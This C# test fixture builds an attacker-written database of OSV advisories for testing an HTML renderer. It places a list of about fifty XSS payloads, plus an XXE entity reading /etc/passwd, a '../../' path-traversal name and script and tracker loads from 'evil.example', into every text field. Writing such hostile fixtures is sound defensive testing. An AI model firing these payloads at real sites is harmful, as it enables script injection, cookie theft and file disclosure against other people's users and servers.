using System.Globalization;
using AdvisoryPipeline.Configuration;
using AdvisoryPipeline.Osv;
using AdvisoryPipeline.Osv.Ecosystems;
using AdvisoryPipeline.Presentation;

namespace AdvisoryPipeline.Tests.Rendering.Html;

/// <summary>
/// A database written by an attacker: one advisory per payload, with that payload in every text field
/// (IDs excepted: they are validated before rendering). Every payload, if it ever ran, would open a dialog,
/// log <see cref="Marker"/>, set the title to it, or navigate away, so a browser can tell.
/// </summary>
public static class HostileDatabase
{
    public const string Marker = "XSS-MARKER";

    /// <summary>A host the tests check no request goes to.</summary>
    public const string EvilHost = "evil.example";

    public static IReadOnlyList<string> Payloads { get; } =
    [
        $"<script>alert('{Marker}')</script>",
        $"<img src=x onerror=\"console.log('{Marker}')\">",
        $"<svg onload=alert('{Marker}')>",
        $"<svg><script>console.log('{Marker}')</script></svg>",
        $"\" onmouseover=\"alert('{Marker}')\" x=\"",
        $"' autofocus onfocus='alert(\"{Marker}\")' x='",
        $"</script><script>document.title='{Marker}'</script>",
        $"</title><script>document.title='{Marker}'</script>",
        $"javascript:alert('{Marker}')",
        $"JaVaScRiPt:console.log('{Marker}')",
        $" \tjavascript:alert('{Marker}')",
        $"java\tscript:alert('{Marker}')",
        $"data:text/html,<script>alert('{Marker}')</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTLU1BUktFUicpPC9zY3JpcHQ+",
        $"vbscript:msgbox(\"{Marker}\")",
        $"<iframe src=\"javascript:alert('{Marker}')\"></iframe>",
        $"<a href=\"javascript:alert('{Marker}')\">click me</a>",
        $"[click me](javascript:alert('{Marker}'))",
        $"![picture](javascript:alert('{Marker}'))",
        $"<javascript:alert('{Marker}')>",
        $"[data link](data:text/html,<script>alert('{Marker}')</script>)",
        $"[breakout](https://{EvilHost}/\" onclick=\"alert('{Marker}'))",
        $"![tracker](https://{EvilHost}/pixel.gif)",
        $"<style>body{{background:url(\"javascript:alert('{Marker}')\")}}</style>",
        $"<div style=\"background:url(javascript:alert('{Marker}'));width:expression(alert('{Marker}'))\">css</div>",
        $"&lt;script&gt;alert('{Marker}')&lt;/script&gt; &#60;img src=x onerror=alert('{Marker}')&#62;",
        $"<a href=\"&#106;avascript:alert('{Marker}')\">entity</a>",
        $"\u202Egnp.exe<script>alert('{Marker}')</script>\u2066",
        $"{{{{constructor.constructor('alert(\"{Marker}\")')()}}}} ${{alert('{Marker}')}}",
        $"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('{Marker}')\">",
        $"<base href=\"javascript:alert('{Marker}')//\">",
        $"<form action=\"javascript:alert('{Marker}')\"><button>go</button></form>",
        $"<math><mtext><table><mglyph><style><img src=x onerror=alert('{Marker}')>",
        $"<noscript><p title=\"</noscript><img src=x onerror=alert('{Marker}')>\">",
        $"<!--<img src=\"--><img src=x onerror=alert('{Marker}')//\">",
        $"<object data=\"javascript:alert('{Marker}')\"></object><embed src=\"data:text/html,<script>alert('{Marker}')</script>\">",
        $"<details open ontoggle=\"alert('{Marker}')\">x</details>",
        $"\"><script src=\"https://{EvilHost}/x.js\"></script><link rel=stylesheet href=\"https://{EvilHost}/x.css\">",
        $"<img src=\"https://{EvilHost}/track.gif\">",
        $"<script>location.href='https://{EvilHost}/'</script>",
        $"\u0000\u0001<script>alert('{Marker}')</script>\uFFFF\uD800",
        $"https://example.com/\"><script>alert('{Marker}')</script>",
        $"mailto:x@example.com?subject=\"><script>alert('{Marker}')</script>",
        $"'); alert('{Marker}'); //",
        $"<!--<script>alert('{Marker}')</script>-->",
        $"]]><script xmlns=\"http://www.w3.org/1999/xhtml\">alert('{Marker}')</script><![CDATA[",
        $"<?xml-stylesheet type=\"text/xsl\" href=\"javascript:alert('{Marker}')\"?>",
        $"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
        $"<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert('{Marker}')</x:script>",
        $"<svg><a xlink:href=\"javascript:alert('{Marker}')\"><text x=\"20\" y=\"20\">svg link</text></a></svg>",
        $"<input autofocus onfocus=alert('{Marker}')>",
        $"<video><source onerror=\"alert('{Marker}')\"></video>",
    ];

    public static RenderSettings Settings { get; } = new(
        $"Hostile <script>alert('{Marker}')</script> \" onmouseover=\"alert('{Marker}')",
        new Uri("https://advisories.example.org/"),
        new Uri($"javascript:alert('{Marker}')"),
        new MailSettings("", "", null))
    {
        // Built here, past database.yaml's checks: the policy page must be safe even with values those checks refuse.
        Policy = new PolicySettings(new PolicyConfig(
            Contacts: [$"javascript:alert('{Marker}')", $"mailto:x@example.org?subject=\"><script>alert('{Marker}')</script>", Payloads[0]],
            Scope: Payloads,
            OutOfScope: Payloads.Take(8).ToList(),
            ReportTemplate: [.. Payloads.Take(12).Select(payload => new ReportSectionConfig(payload, payload))],
            Handling: Payloads,
            SafeHarbor: string.Join("\n\n", Payloads),
            Bounty: Payloads[17],
            PreferredLanguages: [Payloads[4]],
            Acknowledgments: $"javascript:alert('{Marker}')"), Key: null, PrenotifyDays: 14),
    };

    public static IReadOnlyList<AdvisoryView> Create() =>
        [.. Payloads.Select((payload, i) => AdvisoryView.From(Record(i, payload)))];

    /// <summary>An advisory with <paramref name="payload"/> in every field that is not an ID or a timestamp.</summary>
    public static OsvRecord Record(int index, string payload)
    {
        var number = (index + 1).ToString("D4", CultureInfo.InvariantCulture);
        var day = new DateTimeOffset(2026, 1, 1, 8, 0, 0, TimeSpan.Zero).AddDays(index % 28);
        var timestamp = OsvTimestamp.Format(day);
        return new OsvRecord
        {
            SchemaVersion = "1.7.0",
            Id = $"HOSTILE-{number}",
            Modified = timestamp,
            Published = timestamp,
            // Every third record is withdrawn, with a payload where the date should be.
            Withdrawn = index % 3 == 0 ? payload : null,
            // Every fourth record also has an alias that gets a redirect page (the payload alias cannot).
            Aliases = index % 4 == 0 ? [payload, $"CVE-2026-{number}"] : [payload],
            Upstream = [payload],
            Related = [payload, "HOSTILE-0001"],
            Summary = payload,
            Details = Details(payload),
            Severity = [new OsvSeverity { Type = "CVSS_V3", Score = payload }, new OsvSeverity { Type = payload, Score = payload }],
            Affected =
            [
                new OsvAffected
                {
                    // A name that would climb out of the site's folder if paths were built naively.
                    Package = new OsvPackage { Ecosystem = payload, Name = "../../" + payload, Purl = payload },
                    Severity = [new OsvSeverity { Type = "CVSS_V4", Score = payload }],
                    Ranges =
                    [
                        new OsvRange { Type = "SEMVER", Events = [new OsvEvent { Introduced = payload }, new OsvEvent { Fixed = payload }] },
                        new OsvRange { Type = "ECOSYSTEM", Events = [new OsvEvent { Introduced = "0" }, new OsvEvent { LastAffected = payload }] },
                    ],
                    Versions = [payload],
                },
                new OsvAffected
                {
                    Package = new OsvPackage { Ecosystem = "GIT", Name = "https://github.com/hostile/repo" },
                    Ranges = [new OsvRange { Type = "GIT", Repo = "https://github.com/hostile/repo", Events = [new OsvEvent { Introduced = payload }, new OsvEvent { Fixed = payload }] }],
                },
                new OsvAffected
                {
                    Ranges = [new OsvRange { Type = "GIT", Repo = payload, Events = [new OsvEvent { Introduced = "0" }, new OsvEvent { Limit = payload }] }],
                },
            ],
            References = [new OsvReference { Type = "WEB", Url = payload }, new OsvReference { Type = payload, Url = $"https://example.com/?q={payload}" }],
            Credits = [new OsvCredit { Name = payload, Contact = [payload, $"mailto:{payload}"], Type = payload }],
            DatabaseSpecific = System.Text.Json.JsonSerializer.SerializeToElement(
                new Dictionary<string, string[]> { ["cwe_ids"] = [payload, "CWE-79"] }, HostileJsonContext.Default.DictionaryStringStringArray),
        };
    }

    /// <summary>The payload alone, as Markdown link and image targets, inside emphasis, code and a heading.</summary>
    private static string Details(string payload) => $"""
        {payload}

        # {payload}

        A [link]({payload}) and ![an image]({payload}) and <{payload}> and *{payload}* and `{payload}`.

        [reference link][ref]

        | a | b |
        |:-:|--:|
        | {payload.Replace("|", "\\|", StringComparison.Ordinal)} | x |

        [ref]: {payload}
        """;
}

[System.Text.Json.Serialization.JsonSerializable(typeof(Dictionary<string, string[]>))]
internal sealed partial class HostileJsonContext : System.Text.Json.Serialization.JsonSerializerContext;
